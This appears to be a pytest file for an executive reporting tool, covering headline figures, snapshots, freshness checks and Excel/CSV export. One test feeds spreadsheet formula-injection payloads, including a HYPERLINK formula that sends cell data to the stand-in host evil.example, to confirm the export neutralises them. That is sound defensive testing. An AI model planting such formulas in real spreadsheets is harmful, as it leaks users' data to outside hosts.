"""The executive report: every headline figure is its view's own function; snapshots; export; injection safety."""
from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from core.alignment.analytics import alignment_headline
from core.flow.report import flow_report
from core.kpis.analytics import kpi_report
from core.kpis.health import reality_report
from core.reporting.export_safety import HEADER_COLOUR, csv_bytes, neutralise
from core.reporting.report import ReportOptions, build_report, freshness, load_frames
from core.reporting.snapshot import items_at, open_signals_at
from core.reporting.steering_pack import steering_pack
from core.sample import load_sample
from core.store import tables

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-1+1", "@SUM(A1:A2)", "\tcmd", "\rcmd"]


@pytest.fixture
def sample(engine):
    load_sample(engine)
    frames = load_frames(engine)
    return frames, build_report(frames, ReportOptions())


def test_each_headline_figure_is_its_views_own_function(sample) -> None:
    frames, report = sample
    figs = report["figures"]
    flow = flow_report(frames["items"], frames["events"], frames["deps"])
    kpi = kpi_report(frames["kpis"], frames["readings"], frames["incentives"], frames["effects"], frames["objectives"])
    head = alignment_headline(frames["alignment_items"])
    assert figs["linked_share"] == head["open_linked_share"] and figs["hidden_ratio"] == head["hidden_ratio"]
    assert figs["wip"] == int(flow["timeline"]["is_wip"].sum())
    assert figs["aging_past_p85"] == int(flow["aging"]["beyond_p85"].sum())
    assert (figs["top_wait_team"], figs["top_wait_days"]) == (flow["team_waits"]["waited_on_team"].iloc[0],
                                                               flow["team_waits"]["total_days"].iloc[0])
    assert figs["top_wait_team"] == "Data Platform"  # the sample's blocked data-integrity check
    for band in ("green", "amber", "red", "grey"):
        assert figs[f"kpi_{band}"] == int((kpi["status"]["status"] == band).sum())
    assert figs["conflicts"] == len(kpi["conflicts"])
    assert figs["green_but_red"] == len(reality_report(kpi, flow, 14))
    assert figs["open_signals"] == int((frames["signals"]["state"] != "resolved").sum())
    # done per week: each workflow's finishes in exactly the 4 weeks up to its own latest change, summed
    tl = flow["timeline"]
    expected = 0
    for _name, wf in tl.groupby("workflow"):
        until = wf["workflow_as_of"].iloc[0]
        expected += int(((wf["finish"] > until - pd.Timedelta(days=28)) & (wf["finish"] <= until)).sum())
    assert figs["throughput"] == round(expected / 4, 1) > 0
    rows = {r["key"]: r for r in report["headline"]}
    assert rows["wip"]["change"] == figs["wip"] - report["previous"]["wip"]
    assert rows["top_wait_days"]["note"] == "Waited on: Data Platform" and rows["linked_share"]["view"] == "alignment"
    assert rows["median_cycle_days"]["note"].startswith("In service_desk_tickets (1 of 4 workflows)")


def test_attention_names_an_owner_and_a_reason_for_five_different_problems(sample) -> None:
    _frames, report = sample
    att = report["attention"]
    assert att["rank"].tolist() == [1, 2, 3, 4, 5]
    assert att["days"].is_monotonic_decreasing
    assert (att["owner"] != "nobody named").all() and att["reason"].str.endswith(".").all()
    assert att["view"].nunique() == 5  # the worst of each kind first
    by_key = dict(zip(att["key"], att["owner"]))
    assert by_key["Service Desk"] == "Marcus Reid"  # hidden work: the team's manager is named
    assert by_key["Data Platform"] == "Lena Novak"  # the team everyone waits on


def test_items_at_rewinds_status_and_done_dates() -> None:
    items = pd.DataFrame({"id": [1, 2, 3], "status": ["done", "done", "in_progress"],
                          "created_at": pd.to_datetime(["2026-01-01", "2026-01-01", "2026-03-01"]),
                          "done_at": pd.to_datetime(["2026-01-10", "2026-02-20", None])})
    events = pd.DataFrame({"work_item_id": [1, 1, 2, 2], "status": ["in_progress", "done", "in_progress", "done"],
                           "at": pd.to_datetime(["2026-01-02", "2026-01-10", "2026-01-05", "2026-02-20"])})
    then = items_at(items, events, pd.Timestamp("2026-02-01")).set_index("id")
    assert sorted(then.index) == [1, 2]  # item 3 did not exist yet
    assert then.at[1, "status"] == "done" and then.at[2, "status"] == "in_progress"
    assert pd.isna(then.at[2, "done_at"]) and then.at[1, "done_at"] == pd.Timestamp("2026-01-10")
    assert items.loc[items["id"] == 2, "done_at"].iloc[0] == pd.Timestamp("2026-02-20")  # the input is not mutated


def test_signals_open_at_a_date_use_the_period_that_raised_them() -> None:
    signals = pd.DataFrame({"id": [1, 2, 3], "period": pd.to_datetime(["2026-01-05", "2026-03-02", None]),
                            "opened_at": pd.to_datetime(["2026-04-01", "2026-04-01", "2026-01-01"]),
                            "closed_at": pd.to_datetime([None, None, "2026-01-20"])})
    assert open_signals_at(signals, pd.Timestamp("2026-02-01"))["id"].tolist() == [1]


def test_freshness_flags_sources_not_imported_for_too_long() -> None:
    batches = pd.DataFrame({"kind": ["work_items", "work_items", "kpi_readings", "edit"],
                            "state": ["committed", "committed", "committed", "committed"],
                            "source": ["desk", "desk", None, None], "file_name": ["a.csv", "b.csv", "kpi.csv", "x"],
                            "created_at": pd.to_datetime(["2026-10-01", "2026-11-20", "2026-10-25", "2026-11-22"])})
    fresh = freshness(batches, pd.Timestamp("2026-11-22"), 14).set_index("source")
    assert fresh.loc["desk", "days_ago"] == 2.0 and not fresh.loc["desk", "stale"]
    assert fresh.loc["kpi.csv", "stale"] and "x" not in fresh.index  # in-app edits are not imports


def test_steering_pack_has_each_view_formatted(sample) -> None:
    _frames, report = sample
    wb = openpyxl.load_workbook(io.BytesIO(steering_pack(report)))
    assert wb.sheetnames == ["Summary", "Alignment", "Bottlenecks", "Waits", "KPI status", "KPI conflicts",
                             "Status vs reality", "Signals", "Freshness"]
    summary = wb["Summary"]
    assert summary["A5"].value == "Figure" and summary["A5"].font.bold and summary["A5"].fill.fgColor.rgb.endswith(
        HEADER_COLOUR)
    assert summary["A6"].value == "Open work linked"
    assert summary["B6"].value == pytest.approx(report["figures"]["linked_share"])
    assert summary["B6"].number_format == "0.0%"
    assert summary.freeze_panes == "A6"
    kpis = wb["KPI status"]
    assert kpis.freeze_panes == "A4"  # a note, a blank row, then the header
    header = [c.value for c in kpis[3]]
    assert header[:5] == ["code", "name", "owner", "objective", "status"]
    ranges = {str(r.sqref): [rule.formula[0] for rule in r.rules] for r in kpis.conditional_formatting}
    status_range = next(k for k in ranges if k.startswith("E4"))
    assert ranges[status_range] == ['"green"', '"amber"', '"red"', '"grey"']
    values = [r[4] for r in kpis.iter_rows(min_row=4, values_only=True)]
    assert sorted(values) == sorted(report["views"]["kpi"]["status"]["status"])
    assert kpis.column_dimensions["B"].width > 20
    waits = wb["Waits"]
    assert waits["A4"].value == "Data Platform" and waits["C4"].number_format == "#,##0.0"


def test_injection_payloads_come_back_inert_from_both_formats() -> None:
    frame = pd.DataFrame({"title": PAYLOADS + ["ordinary"], "value": [-1.5, -1, 0, 2, 3.25, -7, 8]})
    text = csv_bytes(frame).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["title"] for r in rows] == ["'" + p for p in PAYLOADS] + ["ordinary"]
    assert [float(r["value"]) for r in rows] == [-1.5, -1, 0, 2, 3.25, -7, 8]
    report = {"as_of": None, "period_days": 28, "headline": [], "attention": pd.DataFrame(
        {"rank": [1], "what": ["item"], "key": ["=1+1"], "owner": ["@me"], "reason": ["-2+3"], "days": [-4]}),
        "freshness": pd.DataFrame(columns=["source", "last_import", "days_ago", "stale"]),
        "views": {"alignment": {"by_team": frame.rename(columns={"title": "team", "value": "hidden_ratio"})},
                  "flow": None, "kpi": {"status": pd.DataFrame(), "conflicts": pd.DataFrame(columns=["kind"])},
                  "reality": pd.DataFrame(), "signals": pd.DataFrame()}}
    wb = openpyxl.load_workbook(io.BytesIO(steering_pack(report)))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    team = [r[0] for r in wb["Alignment"].iter_rows(min_row=4, values_only=True)]
    # (a bare CR may come back as a line feed, depending on how the cell was escaped; what matters is the apostrophe)
    assert [t.replace("\r", "\n") for t in team] == ["'" + p.replace("\r", "\n") for p in PAYLOADS] + ["ordinary"]
    ratio = [r[1] for r in wb["Alignment"].iter_rows(min_row=4, values_only=True)]
    assert ratio == [-1.5, -1, 0, 2, 3.25, -7, 8]  # numbers stay numbers
    attention = list(wb["Summary"].iter_rows(min_row=9, max_row=9, values_only=True))[0]
    assert attention[:6] == (1, "item", "'=1+1", "'@me", "'-2+3", -4)
    assert neutralise(-1) == -1 and neutralise("a=b") == "a=b"


def test_cli_export_writes_the_pack_and_refuses_a_bad_path(engine, db_url, tmp_path, monkeypatch) -> None:
    load_sample(engine)
    env = {**__import__("os").environ, "DATABASE_URL": db_url}
    target = tmp_path / "pack.xlsx"
    ok = subprocess.run([sys.executable, "-m", "core", "export", "--xlsx", str(target)], cwd=ROOT, env=env,
                        capture_output=True, text=True, timeout=300)
    assert ok.returncode == 0, ok.stderr
    assert openpyxl.load_workbook(target).sheetnames[0] == "Summary"
    bad = subprocess.run([sys.executable, "-m", "core", "export", "--xlsx", str(tmp_path / "no" / "pack.xlsx")],
                         cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
    assert bad.returncode == 2 and "does not exist" in bad.stderr and "Traceback" not in bad.stderr
    with engine.connect() as conn:
        assert tables.read_table(conn, "importbatch")["kind"].ne("export").all()
